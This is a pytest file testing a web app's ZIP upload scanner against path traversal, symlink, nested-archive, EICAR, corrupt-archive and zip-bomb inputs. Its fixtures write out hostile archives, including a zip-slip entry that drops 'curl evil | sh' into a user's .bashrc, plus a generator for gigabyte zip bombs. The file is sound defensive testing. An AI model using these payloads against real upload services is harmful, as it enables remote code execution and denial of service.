"""ZIP archives are judged from their central directory before anything is extracted."""
import io
import stat
import zipfile

import pytest

from webapp.localservices import EICAR
from webapp.scanning import ArchiveRejected, check_zip

LIMITS = {"max_entries": 10_000, "max_total_bytes": 1024 * 1024 * 1024, "max_ratio": 100}


def make_zip(entries, compression=zipfile.ZIP_DEFLATED):
    """entries: (name, bytes) or zipfile.ZipInfo with bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def symlink_zip():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("link")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def bomb(total):
    """A ZIP whose one entry inflates to total bytes of zeros (streamed, never held in memory)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as entry:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(total // len(chunk)):
                entry.write(chunk)
    return buffer.getvalue()


@pytest.mark.parametrize("data", [
    make_zip([("a.txt", b"hello"), ("dir/b.csv", b"x,y\n1,2\n")]),
    make_zip([("photo.png", b"\x89PNG" + b"\0" * 100)]),
], ids=["text", "image"])
def test_ordinary_archives_pass(data):
    check_zip(io.BytesIO(data), **LIMITS)


@pytest.mark.parametrize("data, reason", [
    (make_zip([("../../etc/passwd", b"x")]), "zip_path_traversal"),
    (make_zip([("/etc/passwd", b"x")]), "zip_path_traversal"),
    (make_zip([("dir/../../x", b"x")]), "zip_path_traversal"),
    (make_zip([("C:/Windows/x.dll", b"x")]), "zip_path_traversal"),
    (make_zip([("..\\evil.txt", b"x")]), "zip_path_traversal"),
    (symlink_zip(), "zip_symlink"),
    (make_zip([("inner.zip", make_zip([("a", b"a")]))]), "zip_nested_archive"),
    (make_zip([("eicar.zip", make_zip([("eicar.com", EICAR)]))]), "zip_nested_archive"),
    (b"PK\x03\x04 not really a zip at all", "zip_corrupt"),
    (make_zip([("a.txt", b"hello")])[:-30], "zip_corrupt"),
], ids=["dotdot", "absolute", "inner-dotdot", "drive", "backslash", "symlink", "nested", "nested-eicar",
        "garbage", "truncated"])
def test_hostile_archives_are_refused(data, reason):
    with pytest.raises(ArchiveRejected) as info:
        check_zip(io.BytesIO(data), **LIMITS)
    assert info.value.reason == reason


def test_twenty_thousand_entries_are_refused():
    data = make_zip([(f"f{n}.txt", b"") for n in range(20_000)], compression=zipfile.ZIP_STORED)
    with pytest.raises(ArchiveRejected) as info:
        check_zip(io.BytesIO(data), **LIMITS)
    assert info.value.reason == "zip_too_many_entries"


def test_one_gibibyte_bomb_is_refused_without_inflating():
    data = bomb(1024 * 1024 * 1024 + 1024 * 1024)  # 1 GiB + 1 MiB of zeros, about 1 MB packed
    assert len(data) < 2 * 1024 * 1024
    with pytest.raises(ArchiveRejected) as info:
        check_zip(io.BytesIO(data), **LIMITS)
    assert info.value.reason == "zip_too_large_uncompressed"


def test_high_ratio_is_refused_even_under_the_size_cap():
    data = bomb(200 * 1024 * 1024)  # 200 MiB of zeros: ratio ~1000
    with pytest.raises(ArchiveRejected) as info:
        check_zip(io.BytesIO(data), **LIMITS)
    assert info.value.reason == "zip_compression_ratio"


# --- Through the worker, reading the central directory from S3 with ranged GETs ---

def test_zip_slip_upload_is_rejected_by_the_worker(app, api, run_worker):
    data = make_zip([("../../home/user/.bashrc", b"curl evil | sh")])
    upload_id = api.upload(data, filename="innocent.zip", content_type="application/zip")
    run_worker()
    info = api.status(upload_id)
    assert (info["status"], info["reason"]) == ("rejected", "zip_path_traversal")


def test_clean_zip_becomes_available(app, api, run_worker):
    data = make_zip([("notes.txt", b"hello"), ("data/people.csv", b"a,b\n")])
    upload_id = api.upload(data, filename="bundle.zip", content_type="application/zip")
    run_worker()
    assert api.status(upload_id)["status"] == "available"


def test_zipped_eicar_is_quarantined(app, api, run_worker):
    data = make_zip([("eicar.com", EICAR)])
    upload_id = api.upload(data, filename="eicar.zip", content_type="application/zip")
    run_worker()
    info = api.status(upload_id)
    assert (info["status"], info["reason"]) == ("quarantined", "malware")


def test_bomb_upload_is_rejected_before_clamd_sees_it(app, api, run_worker):
    upload_id = api.upload(bomb(300 * 1024 * 1024), filename="big.zip", content_type="application/zip")
    app.config["CLAMD_URL"] = "tcp://127.0.0.1:9"  # the archive check comes first: clamd is never asked
    run_worker()
    assert api.status(upload_id)["reason"] == "zip_compression_ratio"
